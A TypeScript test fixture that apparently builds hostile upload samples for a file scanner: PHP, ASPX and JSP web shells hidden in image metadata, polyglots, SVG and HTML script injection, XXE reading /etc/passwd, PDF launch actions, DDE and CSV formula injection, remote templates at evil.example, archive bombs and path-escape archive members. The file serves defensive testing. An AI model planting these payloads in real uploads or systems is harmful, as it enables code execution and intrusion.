import { deflateSync, gzipSync } from 'node:zlib';
import {
  compound,
  objectStream,
  office,
  openDocument,
  pdf,
  pdfStream,
  pdfWithFile,
  relations,
  wordFields,
  workbook,
} from './documents.ts';
import { gif, jpeg, png, pngChunk, svgWith, webp } from './images.ts';
import { tar } from './tar.ts';
import { overlappingZip, unicodePath, zip } from './zip.ts';

export interface HostileSample {
  /** What it does, in few words. */
  readonly title: string;
  readonly name: string;
  readonly type: string;
  readonly bytes: Buffer;
  /** A finding that it must have, in any place. */
  readonly code: string;
}

/** The harmless text that every scanner of malware knows, in two pieces so that no scanner of sources finds it here. */
export const EICAR: Buffer = Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD', '-ANTIVIRUS-TEST-FILE!$H+H*'].join(''));

const PHP = '<?php system($_GET["c"]); ?>';
const ASPX = '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start(Request["c"]); %>';
const JSP = '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>';
const row = (code: string, title: string, [name, type]: readonly [string, string], bytes: Buffer | string): HostileSample => ({
  title,
  name,
  type,
  bytes: Buffer.from(bytes),
  code,
});

const PNG = ['photo.png', 'image/png'] as const;
const JPEG = ['photo.jpg', 'image/jpeg'] as const;
const GIF = ['dot.gif', 'image/gif'] as const;
const SVG = ['drawing.svg', 'image/svg+xml'] as const;
const HTML = ['page.html', 'text/html'] as const;
const PDF = ['letter.pdf', 'application/pdf'] as const;
const DOCX = ['letter.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'] as const;
const XLSX = ['table.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'] as const;
const ODT = ['letter.odt', 'application/vnd.oasis.opendocument.text'] as const;
const DOC = ['old.doc', 'application/msword'] as const;
const XLS = ['old.xls', 'application/vnd.ms-excel'] as const;
const RTF = ['note.rtf', 'application/rtf'] as const;
const ZIP = ['folder.zip', 'application/zip'] as const;
const TAR = ['folder.tar', 'application/x-tar'] as const;
const GZIP = ['words.txt.gz', 'application/gzip'] as const;
const TXT = ['notes.txt', 'text/plain'] as const;

const small = zip([{ name: 'A.class', content: 'code' }]);
const cut = (bytes: Buffer, octets = 9): Buffer => bytes.subarray(0, bytes.length - octets);

function changed(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes);
  copy[at] = (copy[at] ?? 0) ^ 0x5a;
  return copy;
}

/** `GIF89a/*…*\/=1;…`: the width is the beginning of a comment, which ends in the comment of the picture. */
function gifScript(): Buffer {
  const picture = gif(['*/=1;alert(document.domain);//']);
  picture.write('/*', 6, 'latin1');
  return picture;
}

const structure: readonly HostileSample[] = [
  row('structure-broken', 'a PNG whose checksum is wrong', PNG, changed(png(), 20)),
  row('structure-broken', 'a PNG that is cut', PNG, cut(png())),
  row('structure-broken', 'a JPEG that is cut', JPEG, cut(jpeg(), 2)),
  row('structure-broken', 'a GIF that is cut', GIF, cut(gif(), 3)),
  row('structure-broken', 'a WebP that is cut', ['dot.webp', 'image/webp'], cut(webp())),
  row('structure-broken', 'a PDF without an end', PDF, cut(pdf(), 12)),
  row('structure-broken', 'a ZIP archive without a directory', ZIP, cut(zip([{ name: 'a', content: 'b' }]), 22)),
  row(
    'structure-broken',
    'two names for one member',
    ZIP,
    zip([{ name: 'a.txt', content: 'x', claims: { localName: 'b.php' } }]),
  ),
  row(
    'structure-broken',
    'a member that is longer than it says',
    ZIP,
    zip([{ name: 'a.txt', content: 'x'.repeat(5000), claims: { bytes: 10 } }]),
  ),
  row('structure-broken', 'a member with a wrong checksum', ZIP, zip([{ name: 'a.txt', content: 'x', claims: { crc: 1 } }])),
  row(
    'structure-broken',
    'a second name for other unpackers',
    ZIP,
    zip([{ name: 'a.txt', content: 'x', extra: unicodePath('a.txt', '../../b.php') }]),
  ),
  row(
    'structure-broken',
    'one name twice',
    ZIP,
    zip([
      { name: 'a.txt', content: 'x' },
      { name: 'a.txt', content: 'y' },
    ]),
  ),
  row('structure-broken', 'binary behind text', TXT, Buffer.concat([Buffer.from('words '.repeat(2000)), Buffer.alloc(100)])),
];

const polyglots: readonly HostileSample[] = [
  row('polyglot', 'a GIF that is a Java archive (GIFAR)', GIF, Buffer.concat([gif(), small])),
  row('polyglot', 'a JPEG that is a ZIP archive', JPEG, Buffer.concat([jpeg(), small])),
  row('polyglot', 'a PNG that is a ZIP archive', PNG, Buffer.concat([png(), small])),
  row('trailing-data', 'words behind a picture', PNG, Buffer.concat([png(), Buffer.from('something else')])),
  row(
    'polyglot',
    'a ZIP archive with something before it',
    ZIP,
    zip([{ name: 'a.txt', content: 'x' }], { prefix: Buffer.from('PK\u0003\u0004 junk') }),
  ),
  row('polyglot', 'a PDF in the comment of a JPEG', JPEG, jpeg([pdf().subarray(0, 300)])),
  row(
    'polyglot',
    'a RAR archive behind a JPEG',
    JPEG,
    Buffer.concat([jpeg(), Buffer.from('Rar!\u001a\u0007\u0001\0', 'latin1')]),
  ),
  row('polyglot', 'a GIF that is a script', GIF, gifScript()),
  row('polyglot', 'a PDF that is a ZIP archive', PDF, Buffer.concat([pdf(), small])),
];

const codeInPictures: readonly HostileSample[] = [
  row('code-in-image', 'PHP in a text chunk of a PNG', PNG, png([pngChunk('tEXt', Buffer.from(`Comment\0${PHP}`))])),
  row(
    'code-in-image',
    'PHP in a packed text of a PNG',
    PNG,
    png([pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(PHP)]))]),
  ),
  row('code-in-image', 'PHP in the palette of a PNG', PNG, png([pngChunk('PLTE', Buffer.from(`${PHP}  `))])),
  row('code-in-image', 'PHP in the comment of a JPEG', JPEG, jpeg([PHP])),
  row('code-in-image', 'a short echo of PHP in a JPEG', JPEG, jpeg(['<?=`$_GET[0]`?>'])),
  row('code-in-image', 'JSP in the comment of a JPEG', JPEG, jpeg([JSP])),
  row('code-in-image', 'ASPX in the comment of a GIF', GIF, gif([ASPX])),
  row(
    'code-in-image',
    'a script in the metadata of a WebP',
    ['dot.webp', 'image/webp'],
    webp([['XMP ', '<x><script>alert(1)</script></x>']]),
  ),
  row('code-in-image', 'PHP behind the pixels', PNG, Buffer.concat([png(), Buffer.from(PHP)])),
  row('code-in-image', 'a PHP archive in a JPEG', JPEG, jpeg(['<?php __HALT_COMPILER(); ?>'])),
];

const renamed: readonly HostileSample[] = [
  row('type-mismatch', 'PHP called a picture', ['photo.jpg', 'image/jpeg'], PHP),
  row('type-mismatch', 'HTML called a text', TXT, '<html><body>words</body></html>'),
  row(
    'type-mismatch',
    'a program called a PDF',
    PDF,
    Buffer.concat([
      Buffer.from('MZ'),
      Buffer.alloc(58),
      Buffer.from([0x40, 0, 0, 0]),
      Buffer.from('PE\0\0', 'latin1'),
      Buffer.alloc(200),
    ]),
  ),
  row('type-mismatch', 'a PNG declared as a PDF', ['photo.png', 'application/pdf'], png()),
  row('type-mismatch', 'a ZIP archive called a document', DOCX, zip([{ name: 'a.txt', content: 'x' }])),
  row(
    'program',
    'a program',
    ['setup.exe', 'application/octet-stream'],
    Buffer.concat([
      Buffer.from('MZ'),
      Buffer.alloc(58),
      Buffer.from([0x40, 0, 0, 0]),
      Buffer.from('PE\0\0', 'latin1'),
      Buffer.alloc(200),
    ]),
  ),
  row('program', 'a script of a shell', ['run.sh', 'text/plain'], '#!/bin/sh\necho\n'),
  row('program', 'a page of PHP', ['page.php', 'application/octet-stream'], PHP),
  row(
    'program',
    'a program in an archive',
    ZIP,
    zip([{ name: 'a/b', content: Buffer.concat([Buffer.from('\u007fELF', 'latin1'), Buffer.alloc(60)]) }]),
  ),
  row(
    'type-unknown',
    'noise',
    ['data.bin', 'application/octet-stream'],
    Buffer.from(Array.from({ length: 400 }, (_, n) => (n * 167 + (n >> 3) * 31 + 3) % 256)),
  ),
];

const active: readonly HostileSample[] = [
  row('active-svg', 'a script in an SVG', SVG, svgWith('<script>alert(1)</script>')),
  row('active-svg', 'a script with a prefix', SVG, svgWith('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>')),
  row('active-svg', 'a handler in an SVG', SVG, svgWith('<rect onload="alert(1)"/>')),
  row(
    'active-svg',
    'a handler behind a large value',
    SVG,
    svgWith(`<image href="data:image/png;base64,${'A'.repeat(200_000)}" onload="x()"/>`),
  ),
  row('active-svg', 'a script as an address', SVG, svgWith('<a href=" java&#115;cript:alert(1)">x</a>')),
  row(
    'active-svg',
    'an address that is set later',
    SVG,
    svgWith('<animate attributeName="href" values="#a;javascript:alert(1)"/>'),
  ),
  row('active-svg', 'HTML in an SVG', SVG, svgWith('<foreignObject><b/></foreignObject>')),
  row(
    'active-svg',
    'an entity of markup',
    SVG,
    svgWith('&x;').replace('<svg', '<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg'),
  ),
  row(
    'external-reference',
    'an entity from a file',
    SVG,
    svgWith('&x;').replace('<svg', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg'),
  ),
  row('external-reference', 'a picture from elsewhere', SVG, svgWith('<image href="https://tracker.example/x.png"/>')),
  row('external-reference', 'a style from elsewhere', SVG, svgWith('<style>@import "https://tracker.example/x.css";</style>')),
  row(
    'active-svg',
    'a script in UTF-16',
    SVG,
    Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(svgWith('<script>alert(1)</script>').replace('UTF-8', 'UTF-16'), 'utf16le'),
    ]),
  ),
  row('active-html', 'a script in HTML', HTML, '<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'),
  row(
    'active-html',
    'a handler in HTML that a title hides',
    HTML,
    '<!DOCTYPE html><title><a href="</title><img src=x onerror=alert(1)>"></title>',
  ),
  row('active-html', 'a frame in HTML', HTML, '<!DOCTYPE html><iframe src="/admin"></iframe>'),
  row(
    'active-html',
    'XML that is a page',
    ['data.xml', 'application/xml'],
    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  ),
  row(
    'active-html',
    'XML with a style sheet',
    ['data.xml', 'application/xml'],
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>',
  ),
  row(
    'archive-bomb',
    'entities of entities',
    ['data.xml', 'application/xml'],
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;"><!ENTITY d "&c;&c;">]><a>&d;</a>',
  ),
  row(
    'active-pdf',
    'a script in a PDF',
    PDF,
    pdf({ catalogue: '/OpenAction 5 0 R', objects: ['<</S /JavaScript /JS (app.alert(1))>>'] }),
  ),
  row('active-pdf', 'a script with an escaped name', PDF, pdf({ objects: ['<</S /J#61va#53cript /J#53 (app.alert(1))>>'] })),
  row('active-pdf', 'a script in packed objects', PDF, pdf({ objects: [objectStream('<</S /JavaScript /JS (app.alert(1))>>')] })),
  row(
    'active-pdf',
    'packed objects in a second packing',
    PDF,
    pdf({ objects: [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from('78>'))] }),
  ),
  row('active-pdf', 'a program that is started', PDF, pdf({ objects: ['<</S /Launch /F (cmd.exe)>>'] })),
  row(
    'active-pdf',
    'an address that is opened',
    PDF,
    pdf({ catalogue: '/OpenAction 5 0 R', objects: ['<</S /URI /URI (https://example.com/)>>'] }),
  ),
  row('active-pdf', 'actions at events', PDF, pdf({ catalogue: '/AA <</WC 5 0 R>>', objects: ['<</S /Named /N /Print>>'] })),
  row('embedded-object', 'a file in a PDF', PDF, pdfWithFile(Buffer.from('words'))),
  row('document-encrypted', 'an encrypted PDF', PDF, pdf({ trailer: '/Encrypt 5 0 R', objects: ['<</Filter /Standard /V 4>>'] })),
];

const officeFiles: readonly HostileSample[] = [
  row(
    'macro',
    'a document with macros',
    ['letter.docm', 'application/vnd.ms-word.document.macroenabled.12'],
    office('docx', [
      { name: 'word/vbaProject.bin', content: compound([{ name: 'VBA' }, { name: '_VBA_PROJECT', content: Buffer.from('x') }]) },
    ]),
  ),
  row('macro', 'a sheet of macros', XLSX, office('xlsx', [{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }])),
  row(
    'macro',
    'a field that starts a program, in pieces',
    DOCX,
    office('docx', [{ name: 'word/document.xml', content: wordFields([' DD', 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe']) }]),
  ),
  row(
    'macro',
    'a formula that starts a program',
    XLSX,
    office('xlsx', [
      { name: 'xl/worksheets/sheet1.xml', content: '<worksheet><c><f>cmd|&apos;/c calc&apos;!A0</f></c></worksheet>' },
    ]),
  ),
  row(
    'external-reference',
    'a template from elsewhere',
    DOCX,
    office('docx', [
      {
        name: 'word/_rels/settings.xml.rels',
        content: relations([{ type: 'attachedTemplate', target: 'https://evil.example/t.dotm', isOutside: true }]),
      },
    ]),
  ),
  row(
    'external-reference',
    'an object from elsewhere',
    DOCX,
    office('docx', [
      {
        name: 'word/_rels/document.xml.rels',
        content: relations([{ type: 'oleObject', target: 'https://evil.example/a.html!', isOutside: true }]),
      },
    ]),
  ),
  row(
    'embedded-object',
    'an object in a document',
    DOCX,
    office('docx', [
      { name: 'word/embeddings/oleObject1.bin', content: compound([{ name: '\u0001Ole10Native', content: Buffer.from('x') }]) },
    ]),
  ),
  row(
    'embedded-object',
    'controls in a document',
    DOCX,
    office('docx', [{ name: 'word/activeX/activeX1.xml', content: '<a/>' }]),
  ),
  row(
    'macro',
    'an old document with macros',
    DOC,
    compound([{ name: 'WordDocument', content: Buffer.from('x') }, { name: 'Macros' }, { name: 'VBA' }]),
  ),
  row('macro', 'an old sheet of macros', XLS, compound([{ name: 'Workbook', content: workbook(1) }])),
  row(
    'embedded-object',
    'an equation in an old document',
    DOC,
    compound([
      { name: 'WordDocument', content: Buffer.from('x') },
      { name: 'Equation Native', content: Buffer.from('x') },
    ]),
  ),
  row(
    'document-encrypted',
    'an encrypted document',
    ['letter.msg', 'application/octet-stream'],
    compound([{ name: 'EncryptedPackage', content: Buffer.from('x') }]),
  ),
  row(
    'macro',
    'an OpenDocument text with macros',
    ODT,
    openDocument('text', { members: [{ name: 'Basic/Standard/Module1.xml', content: '<a/>' }] }),
  ),
  row(
    'external-reference',
    'an OpenDocument text with a picture from elsewhere',
    ODT,
    openDocument('text', { body: '<draw:image xlink:href="https://tracker.example/x.png"/>' }),
  ),
  row('embedded-object', 'an object in Rich Text', RTF, '{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}'),
  row('external-reference', 'a template of Rich Text from elsewhere', RTF, '{\\rtf1{\\*\\template https://evil.example/t.dotm}}'),
  row('macro', 'a cell that runs a command', ['table.csv', 'text/csv'], "a,b\n=cmd|'/c calc'!A0,1\n"),
];

const nested = (levels: number, content: Buffer): Buffer =>
  Array.from({ length: levels }).reduce<Buffer>((inner) => zip([{ name: 'inner.zip', content: inner }]), content);

const archives: readonly HostileSample[] = [
  row('archive-bomb', 'a ZIP bomb', ZIP, zip([{ name: 'zeros.txt', content: Buffer.alloc(20_000_000) }])),
  row(
    'structure-broken',
    'a ZIP bomb that does not say so',
    ZIP,
    zip([{ name: 'zeros.txt', content: Buffer.alloc(20_000_000), claims: { bytes: 1000 } }]),
  ),
  row('archive-bomb', 'members that share their octets', ZIP, overlappingZip(200)),
  row('archive-bomb', 'a gzip bomb', GZIP, gzipSync(Buffer.alloc(20_000_000))),
  row(
    'archive-bomb',
    'a bomb in an archive',
    ZIP,
    zip([{ name: 'a.tar', content: tar([{ name: 'b.gz', content: gzipSync(Buffer.alloc(20_000_000)) }]) }]),
  ),
  row('archive-depth', 'archives in archives', ZIP, nested(6, Buffer.from('x'))),
  row(
    'archive-entries',
    'very many members',
    ZIP,
    zip(Array.from({ length: 10_050 }, (_, n) => ({ name: `a${n}`, content: '', isStored: true }))),
  ),
  row('archive-encrypted', 'an encrypted archive', ZIP, zip([{ name: 'a.txt', content: 'x', isEncrypted: true }])),
  row(
    'archive-opaque',
    'another way of packing',
    ZIP,
    zip([{ name: 'a.txt', content: 'x', isStored: true, claims: { method: 14 } }]),
  ),
  row(
    'archive-opaque',
    'a 7z archive',
    ['a.7z', 'application/x-7z-compressed'],
    Buffer.concat([Buffer.from("7z\u00bc\u00af'\u001c\0\u0004", 'latin1'), Buffer.alloc(24)]),
  ),
  row('name-escape', 'a path out of a ZIP archive', ZIP, zip([{ name: '../../etc/cron.d/x', content: 'x' }])),
  row('name-escape', 'a path with backslashes', ZIP, zip([{ name: '..\\..\\x.txt', content: 'x' }])),
  row('name-escape', 'an absolute path in a tar', TAR, tar([{ name: '/etc/passwd', content: 'x' }])),
  row(
    'name-escape',
    'a link out of a ZIP archive',
    ZIP,
    zip([{ name: 'a/link', content: '../../etc/passwd', isStored: true, mode: 0o12_0777 }]),
  ),
  row('name-escape', 'a link out of a tar', TAR, tar([{ name: 'link', type: '2', link: '/etc/passwd' }])),
  row('name-escape', 'a hard link out of a tar', TAR, tar([{ name: 'link', type: '1', link: '../x' }])),
  row('name-escape', 'a device in a tar', TAR, tar([{ name: 'sda', type: '3' }])),
  row('name-double', 'a member with two extensions', ZIP, zip([{ name: 'a.php.jpg', content: jpeg() }])),
  row(
    'type-mismatch',
    'a program called a picture in an archive',
    ZIP,
    zip([{ name: 'a.jpg', content: Buffer.concat([Buffer.from('\u007fELF', 'latin1'), Buffer.alloc(60)]) }]),
  ),
  row(
    'code-in-image',
    'PHP in a picture in an archive in an archive',
    ZIP,
    zip([{ name: 'a.tar', content: tar([{ name: 'b.jpg', content: jpeg([PHP]) }]) }]),
  ),
];

const names: readonly HostileSample[] = [
  row('name-double', 'two extensions', ['a.php.png', 'image/png'], png()),
  row('name-double', 'an extension turned around', ['photo\u202egnp.exe.png', 'image/png'], png()),
  row('name-escape', 'a NUL in a name', ['a.php\0.png', 'image/png'], png()),
  row('name-escape', 'a path', ['../../a.png', 'image/png'], png()),
  row('name-double', 'a device', ['con.png', 'image/png'], png()),
  row('name-double', 'a huge name', [`${'a'.repeat(5000)}.png`, 'image/png'], png()),
  row('name-code', 'markup in a name', ['<img src=x onerror=alert(1)>.png', 'image/png'], png()),
];

/** Each with something in it that must be found. */
export const HOSTILE_FILES: readonly HostileSample[] = [
  ...structure,
  ...polyglots,
  ...codeInPictures,
  ...renamed,
  ...active,
  ...officeFiles,
  ...archives,
  ...names,
];
